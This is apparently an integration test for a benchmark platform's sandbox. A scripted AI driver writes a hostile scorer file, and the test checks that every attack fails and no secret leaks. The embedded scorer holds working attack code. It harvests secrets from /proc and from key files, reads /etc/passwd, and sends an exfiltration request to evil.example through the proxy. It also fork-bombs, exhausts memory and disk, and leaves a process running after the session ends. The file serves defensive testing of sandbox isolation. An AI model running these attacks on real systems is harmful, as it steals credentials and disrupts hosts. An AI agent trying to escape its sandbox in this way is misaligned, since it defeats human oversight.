"""A hostile scorer through the whole platform: every attack fails, the run still finishes.

An LLM Driver (scripted) writes a malicious ``task_impl.py``: task 0 is honest, every
other task is an attack. The run goes through the real pipeline on the ``local``
(bubblewrap) backend, its sandboxes reaching out only through the egress injector.
The run must end ``ok`` with the honest task and the allowed request passing and
every attack an ``err`` row; afterwards no secret is found in any store, log or
response, and nothing the scorer started is still running.
"""

import asyncio
import json
import logging
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from benchwright_registry.catalog import builtin_catalog
from benchwright_shared.ids import benchmark_id_for
from tests.conftest import Platform, platform_settings
from tests.sandbox_manager.conformance import HOST_PASSWD
from tests.sandbox_manager.probes import gone, marker
from tests.support.fake_openai import FakeOpenAIServer, gsm8k_oracle
from tests.support.scripted_openai import ScriptedOpenAIServer, tool_call

pytestmark = [pytest.mark.slow, pytest.mark.connected]

DRIVER_KEY = "driver-key-hostile-run"
# The deployment's own provider key, in the services' environment.
ENV_PROVIDER_KEY = "sk-or-v1-deployment-key-never-in-a-sandbox"
# The account's vault secrets: one for the model's upstream, one for an API a scorer may use.
MODEL_SECRET = "sk-model-upstream-vault-value-7f3a"
API_SECRET = "api-secret-vault-value-91c2"
REPOSITORY = Path(__file__).resolve().parents[2]

ATTACKS = [
    "honest",
    "allowed_api",
    "read_secrets",
    "host_files",
    "provider_directly",
    "provider_through_egress",
    "host_outside_policy",
    "memory",
    "disk",
    "fork_bomb",
    "outlive",
]

HOSTILE_SCORER = r'''
"""Written by a Driver that wants out."""

import json, os, re, socket, subprocess, urllib.request
from bench_task import BenchTask

ATTACKS = @@ATTACKS@@
MARKERS = ("sk-or-", "sk-model-", "api-secret-", "OPENROUTER")


class AttackFailed(Exception):
    pass


def escaped(evidence):
    return "ESCAPED: " + str(evidence)[:500]


def through_egress(url):
    # HTTP_PROXY, explicitly: NO_PROXY must not decide for the attacker.
    for var in ("NO_PROXY", "no_proxy"):
        os.environ.pop(var, None)
    proxy = os.environ.get("HTTP_PROXY")
    if not proxy:
        raise AttackFailed("no egress proxy configured")
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy}))
    with opener.open(url, timeout=10) as response:
        return response.status, response.read().decode()


class Task(BenchTask):
    def solve(self, index, input):
        attack = ATTACKS[index]
        if attack == "honest":
            return self.complete("Q: " + input["question"] + "\nEnd with: The answer is N.")
        return getattr(self, "attack_" + attack)()

    def score(self, index, output, expected):
        if output.startswith("ESCAPED"):
            return 1.0  # a pass row is an escape: the test fails on it
        if ATTACKS[index] == "allowed_api":
            return 1.0 if json.loads(output)["authorized"] else 0.0
        if ATTACKS[index] != "honest":
            raise AttackFailed(output)
        numbers = re.findall(r"-?\d+(?:\.\d+)?", (output or "").replace(",", ""))
        return 1.0 if numbers and float(numbers[-1]) == float(expected) else 0.0

    def attack_allowed_api(self):
        status, body = through_egress("http://127.0.0.2:@@API_PORT@@/check")
        if any(m in body for m in MARKERS):
            return escaped(body)
        return body

    def attack_read_secrets(self):
        places = {"env": "\n".join(f"{k}={v}" for k, v in os.environ.items())}
        for pid in os.listdir("/proc"):
            for part in ("environ", "cmdline"):
                try:
                    places[f"{pid}/{part}"] = open(f"/proc/{pid}/{part}", "rb").read().decode()
                except (OSError, UnicodeDecodeError):
                    pass
        for root, _, files in os.walk("/", onerror=lambda e: None):
            if root.startswith(("/proc", "/sys", "/dev")):
                continue
            for name in files:
                if name.endswith((".key", ".sqlite", ".json", ".pem", ".env")):
                    path = os.path.join(root, name)
                    try:
                        places[path] = open(path, "rb").read().decode(errors="replace")
                    except OSError:
                        pass
        for place, text in places.items():
            for m in MARKERS:
                if m in text:
                    return escaped(f"{place}: {text}")
        raise AttackFailed(f"no secret in {len(places)} places")

    def attack_host_files(self):
        text = open("/etc/passwd").read()
        if @@HOST_LINE@@ in text:
            return escaped(text)
        errors = []
        for path in @@HOST_PATHS@@:
            try:
                if os.path.isdir(path):
                    listing = os.listdir(path)
                    if len(listing) > 1:
                        return escaped(f"{path}: {listing}")
                    errors.append(f"{path}: {listing}")
                else:
                    return escaped(f"{path}: {open(path).read()}")
            except OSError as exc:
                errors.append(f"{path}: {type(exc).__name__}")
        raise PermissionError("; ".join(errors))

    def attack_provider_directly(self):
        errors = []
        for host in ("127.0.0.1", "127.0.0.2"):
            try:
                with socket.create_connection((host, @@MODEL_PORT@@), timeout=3) as conn:
                    conn.sendall(b"GET / HTTP/1.0\r\n\r\n")
                    return escaped(f"{host} answered {conn.recv(100)!r}")
            except OSError as exc:
                errors.append(f"{host}: {type(exc).__name__}")
        try:
            socket.getaddrinfo("openrouter.ai", 443)
            return escaped("DNS resolved openrouter.ai")
        except OSError as exc:
            errors.append(f"dns: {type(exc).__name__}")
        raise ConnectionError("; ".join(errors))

    def attack_provider_through_egress(self):
        return escaped(through_egress("http://127.0.0.1:@@MODEL_PORT@@/v1/models"))

    def attack_host_outside_policy(self):
        return escaped(through_egress("http://evil.example/exfiltrate"))

    def attack_memory(self):
        hoard = []
        while True:
            hoard.append(bytearray(64 << 20))

    def attack_disk(self):
        with open("fill.bin", "wb") as f:
            while True:
                f.write(b"x" * (1 << 20))

    def attack_fork_bomb(self):
        while True:
            os.fork()

    def attack_outlive(self):
        if os.fork() == 0:
            os.setsid()
            subprocess.Popen(["sleep", "@@MARKER@@"], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
            os._exit(0)
        os.wait()
        return "a daemon is running"
'''


class AllowedApi:
    """An HTTP API on 127.0.0.2 that says whether the account's secret came with the call."""

    def __init__(self) -> None:
        self.port = 0
        self.seen: list[dict[str, str]] = []
        self._server: asyncio.Server | None = None

    async def __aenter__(self) -> "AllowedApi":
        self._server = await asyncio.start_server(self._serve, "127.0.0.2", 0)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *_: object) -> None:
        assert self._server
        self._server.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readline()
        headers = {}
        while (line := await reader.readline()) not in (b"\r\n", b""):
            name, _, value = line.decode().partition(":")
            headers[name.strip().lower()] = value.strip()
        self.seen.append(headers)
        body = json.dumps({"authorized": headers.get("x-api-key") == API_SECRET}).encode()
        writer.write(
            b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
            + f"Content-Length: {len(body)}\r\n\r\n".encode()
            + body
        )
        await writer.drain()
        writer.close()


def scorer(model_port: int, api_port: int, mark: str, data_dir: Path) -> str:
    paths = [str(data_dir), str(data_dir / "proxy"), str(Path.home()), str(REPOSITORY)]
    return (
        HOSTILE_SCORER.replace("@@ATTACKS@@", repr(ATTACKS))
        .replace("@@MODEL_PORT@@", str(model_port))
        .replace("@@API_PORT@@", str(api_port))
        .replace("@@MARKER@@", mark)
        .replace("@@HOST_LINE@@", repr(HOST_PASSWD.splitlines()[0]))
        .replace("@@HOST_PATHS@@", repr(paths))
    )


def gsm8k_rows() -> list[dict[str, Any]]:
    bench = next(b for b in builtin_catalog() if b.name == "GSM8K")
    return bench.subsets[0].load_rows()


@pytest.fixture
async def hostile(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[tuple[Platform, FakeOpenAIServer, AllowedApi, str]]:
    monkeypatch.setenv("BW_OPENROUTER_API_KEY", ENV_PROVIDER_KEY)
    monkeypatch.setenv("OPENAI_API_KEY", ENV_PROVIDER_KEY)
    rows = gsm8k_rows()
    sut = FakeOpenAIServer(gsm8k_oracle(rows[:20], correct_every=1)).start()
    mark = marker()
    async with AllowedApi() as api:
        driver = ScriptedOpenAIServer(
            [
                tool_call(
                    "resolve_benchmark",
                    benchmark_id=benchmark_id_for("GSM8K"),
                    subset_id="test",
                    scope={"kind": "first_n", "n": len(ATTACKS)},
                ),
                tool_call("record_analysis", kind="math", schema={"expected": "string"}),
                tool_call(
                    "write_file",
                    path="task_impl.py",
                    content=scorer(sut.port, api.port, mark, tmp_path),
                ),
                tool_call("submit_scorer", path="task_impl.py", kind="math"),
            ]
        ).start()
        settings = platform_settings(tmp_path, None, None).model_copy(
            update={
                "driver_api_key": DRIVER_KEY,
                "driver_api_base": driver.base_url,
                # The "internet" here is on loopback.
                "injector_allow_internal": True,
                "task_concurrency": 1,
                "sandbox_memory_mb": 1024,
                "sandbox_file_size_mb": 64,
                "sandbox_tmp_mb": 32,
                "sandbox_max_procs": 64,
            }
        )
        platform = await Platform(settings).start()
        try:
            yield platform, sut, api, mark
        finally:
            await platform.shutdown()
            driver.stop()
            sut.stop()


async def test_every_attack_fails_and_the_run_finishes_with_err_rows(
    hostile: tuple[Platform, FakeOpenAIServer, AllowedApi, str],
    caplog: pytest.LogCaptureFixture,
    tmp_path: Path,
) -> None:
    caplog.set_level(logging.DEBUG)
    platform, sut, api, mark = hostile
    client = platform.client
    assert client
    responses: list[str] = []

    async def call(method: str, url: str, **kwargs: Any) -> Any:
        response = await client.request(method, url, **kwargs)
        responses.append(response.text)
        assert response.status_code < 300, response.text
        return response.json()

    await call(
        "POST",
        "/v1/secrets",
        json={
            "name": "MODEL_KEY",
            "value": MODEL_SECRET,
            "rules": [{"host_pattern": "127.0.0.1", "inject_kind": "bearer"}],
        },
    )
    await call(
        "POST",
        "/v1/secrets",
        json={
            "name": "API_KEY",
            "value": API_SECRET,
            "rules": [
                {"host_pattern": "127.0.0.2", "inject_kind": "header", "inject_target": "X-Api-Key"}
            ],
        },
    )
    await call(
        "PATCH",
        "/v1/host-policy",
        json={"add": [{"pattern": "evil.example", "action": "block"}]},
    )
    run = await call(
        "POST",
        "/v1/runs",
        json={
            "request": f"Run the first {len(ATTACKS)} GSM8K problems",
            "driver": "litellm",
            "sut": {"model": "fake", "provider": "openai_compatible", "api_base": sut.base_url},
        },
    )
    done = await platform.wait_terminal(run["id"], timeout=600)
    assert done["status"] == "ok", (done["error"], done["phase"])
    assert done["backend"] == "local"

    tasks = (await call("GET", f"/v1/runs/{run['id']}/tasks", params={"limit": 100}))["data"]
    by_attack = {ATTACKS[t["index"]]: t for t in tasks}
    assert set(by_attack) == set(ATTACKS)
    assert by_attack["honest"]["outcome"] == "pass", by_attack["honest"]
    assert by_attack["allowed_api"]["outcome"] == "pass", by_attack["allowed_api"]
    for attack in ATTACKS[2:]:
        row = by_attack[attack]
        assert row["outcome"] == "err", (attack, row)
        assert "ESCAPED" not in json.dumps(row), (attack, row)
    for attack in ("provider_through_egress", "host_outside_policy"):
        row_id = by_attack[attack]["id"]
        payload = await call("GET", f"/v1/runs/{run['id']}/tasks/{row_id}/payload")
        assert "HTTP Error 403" in json.dumps(payload), payload

    # The model proxy sent the vault's value upstream; the sandbox never had it.
    assert f"Bearer {MODEL_SECRET}" in sut.state["auth"]
    assert [h.get("x-api-key") for h in api.seen] == [API_SECRET]
    assert all("proxy-authorization" not in h for h in api.seen)

    blocked = (await call("GET", f"/v1/runs/{run['id']}/blocked-hosts"))["data"]
    refused = {b["host"]: b for b in blocked}
    assert {"evil.example", "127.0.0.1"} <= set(refused), refused
    assert refused["evil.example"]["seen_count"] >= 1
    assert refused["evil.example"]["first_seen"] <= refused["evil.example"]["last_seen"]

    # Nothing the scorer started outlives the run.
    assert await gone(mark, within_s=10)

    # No secret in any stored event, log line or response.
    await call("GET", "/v1/secrets")
    await call("GET", f"/v1/runs/{run['id']}/events", params={"limit": 5000})
    logs = caplog.text
    stores = await asyncio.to_thread(lambda: [p.read_bytes() for p in tmp_path.rglob("*.sqlite*")])
    assert stores
    for value in (MODEL_SECRET, API_SECRET, ENV_PROVIDER_KEY):
        assert value not in logs
        assert all(value not in text for text in responses)
        assert all(value.encode() not in stored for stored in stores)
